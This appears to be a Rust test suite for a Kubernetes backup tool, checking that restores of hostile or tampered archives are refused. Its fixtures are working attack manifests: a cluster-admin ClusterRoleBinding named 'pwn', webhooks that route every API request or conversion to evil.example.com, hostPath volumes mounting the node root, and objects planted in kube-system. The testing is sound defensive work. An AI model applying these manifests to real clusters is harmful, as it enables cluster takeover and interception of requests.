//! Tenant isolation of restores: a hostile archive (anyone who can write to a backup location can
//! write one) must not create anything outside the restored namespaces, nor cluster-scoped objects
//! the restore did not allow, and a tampered archive must create nothing at all.

use std::collections::BTreeMap;
use std::io::Write;
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use bytes::Bytes;
use serde_json::{Value, json};

use super::*;
use crate::Error;
use crate::backup::Repository;
use crate::backup::resources::{
    ResourceBackupOptions, backup_namespace_resources, restore_namespace_resources,
};
use crate::store::{ObjectStore, PutOptions};
use crate::{InMemory, ObjectPath};

fn p(s: &str) -> ObjectPath {
    ObjectPath::parse(s).expect("valid path")
}

fn zstd_bytes(data: &[u8]) -> Bytes {
    let mut enc = zstd::stream::write::Encoder::new(Vec::new(), 3).expect("encoder");
    enc.include_checksum(true).expect("checksum");
    enc.write_all(data).expect("write");
    Bytes::from(enc.finish().expect("finish"))
}

/// The archive line of `object`, filed under the resource its apiVersion and kind name (with the
/// given plural and scope, which a hostile archive may set to anything).
fn line(object: &Value, plural: &str, namespaced: bool) -> String {
    let api_version = object["apiVersion"].as_str().expect("apiVersion");
    let (group, version) = api_version.rsplit_once('/').unwrap_or(("", api_version));
    json!({"resource": {"group": group, "version": version, "kind": object["kind"],
                        "plural": plural, "namespaced": namespaced},
           "object": object})
    .to_string()
}

/// A well-formed archive of `namespaces` holding `lines`.
fn archive(namespaces: &[&str], lines: &[String]) -> Bytes {
    let mut text = json!({"pxb": "resources", "format": 1, "generator": "hostile",
                          "namespaces": namespaces, "selector": {"namespaces": namespaces}})
    .to_string();
    text.push('\n');
    for l in lines {
        text.push_str(l);
        text.push('\n');
    }
    text.push_str(&json!({"end": {"objects": lines.len()}}).to_string());
    text.push('\n');
    zstd_bytes(text.as_bytes())
}

fn namespace(name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Namespace",
           "metadata": {"name": name, "labels": {"kubernetes.io/metadata.name": name}}})
}

fn config_map(ns: &str, name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": ns},
           "data": {"k": "v"}})
}

fn cluster_admin_binding() -> Value {
    json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
           "metadata": {"name": "pwn"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                       "name": "cluster-admin"},
           "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}]})
}

fn webhook() -> Value {
    json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
           "metadata": {"name": "intercept"},
           "webhooks": [{"name": "all.evil.example.com", "sideEffects": "None",
                         "admissionReviewVersions": ["v1"],
                         "clientConfig": {"url": "https://evil.example.com/"},
                         "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"],
                                    "operations": ["*"]}]}]})
}

fn webhooks_resource() -> ApiResource {
    ApiResource::new(
        "admissionregistration.k8s.io",
        "v1",
        "ValidatingWebhookConfiguration",
        "validatingwebhookconfigurations",
        false,
    )
}

fn host_path_volume(name: &str, claim: Option<(&str, &str)>) -> Value {
    let mut pv = json!({"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": name},
                        "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"],
                                 "hostPath": {"path": "/"}}});
    if let Some((ns, claim)) = claim {
        pv["spec"]["claimRef"] = json!({"kind": "PersistentVolumeClaim", "namespace": ns, "name": claim});
    }
    pv
}

fn claim(ns: &str, name: &str, volume: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "PersistentVolumeClaim",
           "metadata": {"name": name, "namespace": ns},
           "spec": {"volumeName": volume, "accessModes": ["ReadWriteOnce"],
                    "resources": {"requests": {"storage": "1Gi"}}}})
}

/// A target cluster that also serves webhook configurations and has a `kube-system`.
fn target() -> InMemoryCluster {
    let c = InMemoryCluster::new();
    c.add_api_resource(webhooks_resource());
    c.seed(namespace("kube-system")).expect("kube-system");
    c
}

async fn put(store: &InMemory, path: &ObjectPath, data: Bytes) {
    store.put(path, data, PutOptions::default()).await.expect("put");
}

async fn exists(c: &InMemoryCluster, r: &ApiResource, ns: Option<&str>, name: &str) -> bool {
    ResourceSource::get(c, r, ns, name).await.expect("get").is_some()
}

fn res(group: &str, kind: &str) -> ApiResource {
    well_known_api_resources()
        .into_iter()
        .find(|r| r.is(group, kind))
        .expect("well-known resource")
}

fn outcome<'a>(report: &'a RestoreReport, kind: &str, name: &str) -> &'a RestoreOutcome {
    &report
        .objects
        .iter()
        .find(|o| o.object.kind == kind && o.object.name == name)
        .unwrap_or_else(|| panic!("{kind} {name} is not in the report"))
        .outcome
}

fn refused_because(report: &RestoreReport, kind: &str, name: &str, needle: &str) {
    match outcome(report, kind, name) {
        RestoreOutcome::Refused { reason } => {
            assert!(
                reason.contains(needle),
                "{kind} {name}: {reason:?} should say {needle:?}"
            );
        }
        other => panic!("{kind} {name} must be refused, not {other:?}"),
    }
}

/// (a), (b): a ClusterRoleBinding granting cluster-admin and a webhook configuration that would
/// intercept every request are refused, reported, and not created; the tenant's own objects are.
#[tokio::test]
async fn cluster_scoped_rbac_and_webhooks_are_refused() {
    let store = InMemory::new();
    let path = p("b/resources");
    let lines = [
        line(&namespace("shop"), "namespaces", false),
        line(&cluster_admin_binding(), "clusterrolebindings", false),
        line(
            &json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                    "metadata": {"name": "everything"},
                    "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}),
            "clusterroles",
            false,
        ),
        line(&config_map("shop", "app"), "configmaps", true),
        line(&webhook(), "validatingwebhookconfigurations", false),
    ];
    put(&store, &path, archive(&["shop"], &lines)).await;
    let c = target();
    let report = restore_resources(&store, &path, &c, &RestoreOptions::default())
        .await
        .expect("the restore runs");

    let crb = res("rbac.authorization.k8s.io", "ClusterRoleBinding");
    assert!(
        !exists(&c, &crb, None, "pwn").await,
        "cluster-admin binding created"
    );
    assert!(
        !exists(&c, &webhooks_resource(), None, "intercept").await,
        "webhook configuration created"
    );
    assert!(
        !exists(
            &c,
            &res("rbac.authorization.k8s.io", "ClusterRole"),
            None,
            "everything"
        )
        .await,
        "ClusterRole created"
    );
    refused_because(
        &report,
        "ClusterRoleBinding",
        "pwn",
        "cluster-scoped kind ClusterRoleBinding is not restored; allow it explicitly",
    );
    refused_because(
        &report,
        "ValidatingWebhookConfiguration",
        "intercept",
        "cluster-scoped kind ValidatingWebhookConfiguration is not restored",
    );
    refused_because(&report, "ClusterRole", "everything", "allow it explicitly");
    assert_eq!(outcome(&report, "Namespace", "shop"), &RestoreOutcome::Created);
    assert_eq!(outcome(&report, "ConfigMap", "app"), &RestoreOutcome::Created);
    assert_eq!((report.created, report.refused, report.failed), (2, 3, 0));
    assert!(!report.is_success(), "a restore with refusals is not a success");
    assert_eq!(report.refusals().count(), 3);
}

/// (c): a hostPath PersistentVolume is refused whether or not it claims to be bound to a restored
/// claim, and so is a volume bound to a claim that is not restored; a plain volume bound to a
/// restored claim is restored.
#[tokio::test]
async fn host_path_and_unbound_persistent_volumes_are_refused() {
    let store = InMemory::new();
    let path = p("b/resources");
    let mut csi_unbound = host_path_volume("pv-elsewhere", Some(("kube-system", "etcd")));
    csi_unbound["spec"]
        .as_object_mut()
        .expect("spec")
        .remove("hostPath");
    csi_unbound["spec"]["csi"] = json!({"driver": "disk.csi.example.com", "volumeHandle": "victim"});
    let mut csi_bound = csi_unbound.clone();
    csi_bound["metadata"]["name"] = json!("pv-data");
    csi_bound["spec"]["claimRef"] =
        json!({"kind": "PersistentVolumeClaim", "namespace": "shop", "name": "data"});
    let mut local = host_path_volume("pv-local", Some(("shop", "cache")));
    local["spec"].as_object_mut().expect("spec").remove("hostPath");
    local["spec"]["local"] = json!({"path": "/var/lib/kubelet"});
    let lines = [
        line(&namespace("shop"), "namespaces", false),
        line(&host_path_volume("pv-root", None), "persistentvolumes", false),
        line(
            &host_path_volume("pv-root-bound", Some(("shop", "root"))),
            "persistentvolumes",
            false,
        ),
        line(&local, "persistentvolumes", false),
        line(&csi_unbound, "persistentvolumes", false),
        line(&csi_bound, "persistentvolumes", false),
        line(
            &claim("shop", "root", "pv-root-bound"),
            "persistentvolumeclaims",
            true,
        ),
        line(
            &claim("shop", "cache", "pv-local"),
            "persistentvolumeclaims",
            true,
        ),
        line(&claim("shop", "data", "pv-data"), "persistentvolumeclaims", true),
    ];
    put(&store, &path, archive(&["shop"], &lines)).await;
    let c = target();
    let report = restore_resources(&store, &path, &c, &RestoreOptions::default())
        .await
        .expect("the restore runs");
    let pv = res("", "PersistentVolume");
    for name in ["pv-root", "pv-root-bound", "pv-local", "pv-elsewhere"] {
        assert!(!exists(&c, &pv, None, name).await, "{name} created");
    }
    refused_because(
        &report,
        "PersistentVolume",
        "pv-root",
        "not bound to a restored claim",
    );
    refused_because(&report, "PersistentVolume", "pv-root-bound", "hostPath");
    refused_because(&report, "PersistentVolume", "pv-local", "local");
    refused_because(
        &report,
        "PersistentVolume",
        "pv-elsewhere",
        "not bound to a restored claim",
    );
    assert!(
        exists(&c, &pv, None, "pv-data").await,
        "a volume of a restored claim"
    );
    assert_eq!(
        outcome(&report, "PersistentVolume", "pv-data"),
        &RestoreOutcome::Created
    );
}

/// (d): objects of namespaces the restore does not take are refused, never created, whether their
/// namespace exists in the target or not, with or without a namespace mapping.
#[tokio::test]
async fn objects_outside_the_restored_namespaces_are_refused() {
    let store = InMemory::new();
    let path = p("b/resources");
    let lines = [
        line(&namespace("shop"), "namespaces", false),
        line(&namespace("kube-system"), "namespaces", false),
        line(&config_map("shop", "app"), "configmaps", true),
        line(&config_map("kube-system", "evil"), "configmaps", true),
        // A namespaced object without a namespace would land in the client's default namespace.
        line(
            &json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "nowhere"}}),
            "configmaps",
            true,
        ),
    ];
    put(&store, &path, archive(&["shop"], &lines)).await;
    for mapping in [
        BTreeMap::new(),
        BTreeMap::from([("shop".to_owned(), "shop-copy".to_owned())]),
    ] {
        let c = target();
        let opts = RestoreOptions {
            namespace_mapping: mapping.clone(),
            ..RestoreOptions::default()
        };
        let report = restore_resources(&store, &path, &c, &opts)
            .await
            .expect("the restore runs");
        let cm = res("", "ConfigMap");
        assert!(
            !exists(&c, &cm, Some("kube-system"), "evil").await,
            "{mapping:?}: object created in kube-system"
        );
        let target_ns = mapping.get("shop").map_or("shop", String::as_str);
        assert!(exists(&c, &cm, Some(target_ns), "app").await, "{mapping:?}");
        refused_because(
            &report,
            "ConfigMap",
            "evil",
            "kube-system is not one of the restore's namespaces",
        );
        refused_because(
            &report,
            "Namespace",
            "kube-system",
            "not one of the restore's namespaces",
        );
        refused_because(&report, "ConfigMap", "nowhere", "has no namespace");
        assert_eq!(report.objects.len(), 5);
        assert_eq!(c.objects().iter().filter(|o| o.kind() == "ConfigMap").count(), 1);
    }

    // Restoring a subset: the other namespaces of the archive are refused too.
    let lines = [
        line(&namespace("shop"), "namespaces", false),
        line(&namespace("db"), "namespaces", false),
        line(&config_map("shop", "app"), "configmaps", true),
        line(&config_map("db", "conf"), "configmaps", true),
    ];
    put(&store, &path, archive(&["shop", "db"], &lines)).await;
    let c = target();
    let opts = RestoreOptions {
        namespaces: vec!["shop".into()],
        ..RestoreOptions::default()
    };
    let report = restore_resources(&store, &path, &c, &opts)
        .await
        .expect("the restore runs");
    refused_because(
        &report,
        "ConfigMap",
        "conf",
        "db is not one of the restore's namespaces",
    );
    assert!(!exists(&c, &res("", "Namespace"), None, "db").await);
    assert_eq!(report.created, 2);
    // A namespace that is not in the backup cannot be asked for.
    let opts = RestoreOptions {
        namespaces: vec!["kube-system".into()],
        ..RestoreOptions::default()
    };
    let err = restore_resources(&store, &path, &c, &opts)
        .await
        .expect_err("not in the backup");
    assert!(err.to_string().contains("kube-system"), "{err}");
}

/// (e): an archive changed after the backup (here: a ClusterRoleBinding added) no longer matches
/// its manifest's hash; the restore is an error and creates nothing.
#[tokio::test]
async fn a_tampered_archive_is_refused_before_anything_is_created() {
    let store = InMemory::new();
    let repo = Repository::new(Arc::new(store.clone()));
    let source = InMemoryCluster::new();
    source.seed(namespace("shop")).expect("ns");
    source.seed(config_map("shop", "app")).expect("cm");
    let (manifest, _) = backup_namespace_resources(
        &repo,
        &source,
        &ResourceBackupOptions {
            selector: ResourceSelector::namespaces(["shop"]),
            ..ResourceBackupOptions::default()
        },
    )
    .await
    .expect("backup");
    let archive_path = manifest
        .id
        .object_path(crate::backup::resources::RESOURCES_OBJECT)
        .expect("path");

    // The untouched backup restores.
    let c = target();
    let report = restore_namespace_resources(&repo, &manifest.id, &c, &RestoreOptions::default())
        .await
        .expect("restore");
    assert!(report.is_success(), "{report:?}");
    assert_eq!(report.created, 2);

    // The archive is replaced by a hostile one (still a well-formed archive).
    let lines = [
        line(&namespace("shop"), "namespaces", false),
        line(&config_map("shop", "app"), "configmaps", true),
        line(&config_map("shop", "extra"), "configmaps", true),
    ];
    put(&store, &archive_path, archive(&["shop"], &lines)).await;
    let c = target();
    let before = c.len();
    let err = restore_namespace_resources(&repo, &manifest.id, &c, &RestoreOptions::default())
        .await
        .expect_err("a tampered archive must not restore");
    assert!(matches!(err, Error::Corrupt { .. }), "{err}");
    let text = err.to_string();
    assert!(text.contains("does not match"), "{text}");
    assert!(text.contains("nothing was restored"), "{text}");
    assert_eq!(c.len(), before, "nothing created: {:?}", c.created());

    // A damaged archive (a flipped byte) is the same error, not a parse error of its content.
    let good = archive(&["shop"], &lines[..2]);
    let mut damaged = good.to_vec();
    let mid = damaged.len() / 2;
    damaged[mid] ^= 0x55;
    put(&store, &archive_path, damaged.into()).await;
    let err = restore_namespace_resources(&repo, &manifest.id, &c, &RestoreOptions::default())
        .await
        .expect_err("a damaged archive must not restore");
    assert!(err.to_string().contains("does not match"), "{err}");
    assert_eq!(c.len(), before);
}

/// A sink that records the resources objects are created with.
#[derive(Clone)]
struct Recording {
    inner: InMemoryCluster,
    created_as: Arc<Mutex<Vec<ApiResource>>>,
}

#[async_trait]
impl ResourceSource for Recording {
    async fn api_resources(&self) -> Result<Vec<ApiResource>> {
        self.inner.api_resources().await
    }

    async fn list(
        &self,
        resource: &ApiResource,
        namespace: Option<&str>,
        label_selector: Option<&str>,
        continue_token: Option<&str>,
        limit: u32,
    ) -> Result<ResourcePage> {
        self.inner
            .list(resource, namespace, label_selector, continue_token, limit)
            .await
    }

    async fn get(
        &self,
        resource: &ApiResource,
        namespace: Option<&str>,
        name: &str,
    ) -> Result<Option<ResourceObject>> {
        ResourceSource::get(&self.inner, resource, namespace, name).await
    }
}

#[async_trait]
impl ResourceSink for Recording {
    async fn create(&self, resource: &ApiResource, object: &ResourceObject) -> Result<ResourceObject> {
        self.created_as.lock().expect("lock").push(resource.clone());
        self.inner.create(resource, object).await
    }

    async fn delete(&self, resource: &ApiResource, namespace: Option<&str>, name: &str) -> Result<()> {
        self.inner.delete(resource, namespace, name).await
    }
}

/// Objects are addressed by the target's discovery: neither the plural nor the scope an archive
/// files an object under is used, even when the target prefers another version of the type.
#[tokio::test]
async fn objects_are_addressed_by_the_targets_discovery() {
    let store = InMemory::new();
    let path = p("b/resources");
    let widget = json!({"apiVersion": "example.com/v1", "kind": "Widget",
                        "metadata": {"name": "w1", "namespace": "shop"}});
    let lines = [
        line(&namespace("shop"), "namespaces", false),
        // Filed as cluster-scoped "clusterrolebindings": the target says otherwise.
        line(&config_map("shop", "app"), "clusterrolebindings", false),
        // Filed as a namespaced "rolebindings": it is cluster-scoped, and refused.
        line(&cluster_admin_binding(), "rolebindings", true),
        // The target serves Widgets in v2 (preferred); the archive's v1 plural is not used.
        line(&widget, "secrets", false),
    ];
    put(&store, &path, archive(&["shop"], &lines)).await;
    let inner = InMemoryCluster::new();
    inner.add_api_resource(ApiResource::new("example.com", "v2", "Widget", "widgets", true));
    let sink = Recording {
        inner: inner.clone(),
        created_as: Arc::default(),
    };
    let report = restore_resources(&store, &path, &sink, &RestoreOptions::default())
        .await
        .expect("the restore runs");
    let created_as = sink.created_as.lock().expect("lock").clone();
    assert!(
        created_as.contains(&res("", "ConfigMap")),
        "the ConfigMap is created as the target's configmaps: {created_as:?}"
    );
    assert!(
        created_as.contains(&ApiResource::new("example.com", "v1", "Widget", "widgets", true)),
        "the Widget is created as the target's widgets, in its archived version: {created_as:?}"
    );
    assert!(
        created_as.iter().all(|r| r.plural != "secrets"
            && r.plural != "rolebindings"
            && r.plural != "clusterrolebindings"),
        "archive plurals used: {created_as:?}"
    );
    refused_because(
        &report,
        "ClusterRoleBinding",
        "pwn",
        "cluster-scoped kind ClusterRoleBinding",
    );
    assert!(
        exists(&inner, &res("", "ConfigMap"), Some("shop"), "app").await,
        "{report:?}"
    );
}

/// A kind the restore allows explicitly is restored as the archive has it.
#[tokio::test]
async fn explicitly_allowed_cluster_kinds_are_restored() {
    let store = InMemory::new();
    let path = p("b/resources");
    let lines = [
        line(&namespace("shop"), "namespaces", false),
        line(&cluster_admin_binding(), "clusterrolebindings", false),
        line(&webhook(), "validatingwebhookconfigurations", false),
    ];
    put(&store, &path, archive(&["shop"], &lines)).await;
    let c = target();
    let opts = RestoreOptions {
        allow_cluster_kinds: vec!["clusterrolebindings.rbac.authorization.k8s.io".into()],
        ..RestoreOptions::default()
    };
    let report = restore_resources(&store, &path, &c, &opts)
        .await
        .expect("the restore runs");
    assert_eq!(
        outcome(&report, "ClusterRoleBinding", "pwn"),
        &RestoreOutcome::Created
    );
    assert!(
        exists(
            &c,
            &res("rbac.authorization.k8s.io", "ClusterRoleBinding"),
            None,
            "pwn"
        )
        .await
    );
    refused_because(
        &report,
        "ValidatingWebhookConfiguration",
        "intercept",
        "allow it explicitly",
    );
    assert!(!exists(&c, &webhooks_resource(), None, "intercept").await);

    // By kind name, too; allowing a kind does not open namespaces.
    let opts = RestoreOptions {
        allow_cluster_kinds: vec!["ValidatingWebhookConfiguration".into(), "ConfigMap".into()],
        ..RestoreOptions::default()
    };
    let lines = [
        line(&webhook(), "x", false),
        line(&config_map("kube-system", "evil"), "x", true),
    ];
    put(&store, &path, archive(&["shop"], &lines)).await;
    let c = target();
    let report = restore_resources(&store, &path, &c, &opts)
        .await
        .expect("the restore runs");
    assert_eq!(
        outcome(&report, "ValidatingWebhookConfiguration", "intercept"),
        &RestoreOutcome::Created
    );
    refused_because(
        &report,
        "ConfigMap",
        "evil",
        "not one of the restore's namespaces",
    );
}

/// A CustomResourceDefinition is restored only for the custom resources of the restored
/// namespaces, and never with a conversion webhook; a StorageClass only for restored claims.
#[tokio::test]
async fn definitions_and_storage_classes_are_restored_only_when_needed() {
    let crd = |name: &str, kind: &str, scope: &str| {
        json!({"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
               "metadata": {"name": name},
               "spec": {"group": "example.com", "scope": scope,
                        "names": {"kind": kind, "plural": name.split('.').next().expect("plural")},
                        "versions": [{"name": "v1", "served": true, "storage": true}]}})
    };
    let mut hooked = crd("hooks.example.com", "Hook", "Namespaced");
    hooked["spec"]["conversion"] =
        json!({"strategy": "Webhook", "webhook": {"clientConfig": {"url": "https://evil.example.com"}}});
    let sc = |name: &str| {
        json!({"apiVersion": "storage.k8s.io/v1", "kind": "StorageClass", "metadata": {"name": name},
               "provisioner": "disk.csi.example.com"})
    };
    let mut pvc = claim("shop", "data", "");
    pvc["spec"]["storageClassName"] = json!("fast");
    let lines = [
        line(
            &crd("widgets.example.com", "Widget", "Namespaced"),
            "customresourcedefinitions",
            false,
        ),
        line(
            &crd("gadgets.example.com", "Gadget", "Namespaced"),
            "customresourcedefinitions",
            false,
        ),
        line(
            &crd("globals.example.com", "Global", "Cluster"),
            "customresourcedefinitions",
            false,
        ),
        line(&hooked, "customresourcedefinitions", false),
        line(&sc("fast"), "storageclasses", false),
        line(&sc("backdoor"), "storageclasses", false),
        line(&namespace("shop"), "namespaces", false),
        line(&pvc, "persistentvolumeclaims", true),
        line(
            &json!({"apiVersion": "example.com/v1", "kind": "Widget", "metadata": {"name": "w", "namespace": "shop"}}),
            "widgets",
            true,
        ),
        line(
            &json!({"apiVersion": "example.com/v1", "kind": "Hook", "metadata": {"name": "h", "namespace": "shop"}}),
            "hooks",
            true,
        ),
        line(
            &json!({"apiVersion": "example.com/v1", "kind": "Global", "metadata": {"name": "g", "namespace": "shop"}}),
            "globals",
            true,
        ),
    ];
    let store = InMemory::new();
    let path = p("b/resources");
    put(&store, &path, archive(&["shop"], &lines)).await;
    let c = target();
    let report = restore_resources(&store, &path, &c, &RestoreOptions::default())
        .await
        .expect("the restore runs");
    let crds = "CustomResourceDefinition";
    assert_eq!(
        outcome(&report, crds, "widgets.example.com"),
        &RestoreOutcome::Created
    );
    refused_because(&report, crds, "gadgets.example.com", "no restored object");
    refused_because(&report, crds, "globals.example.com", "cluster-scoped");
    refused_because(&report, crds, "hooks.example.com", "conversion webhook");
    assert_eq!(outcome(&report, "StorageClass", "fast"), &RestoreOutcome::Created);
    refused_because(&report, "StorageClass", "backdoor", "no restored claim");
    assert_eq!(outcome(&report, "Widget", "w"), &RestoreOutcome::Created);
}
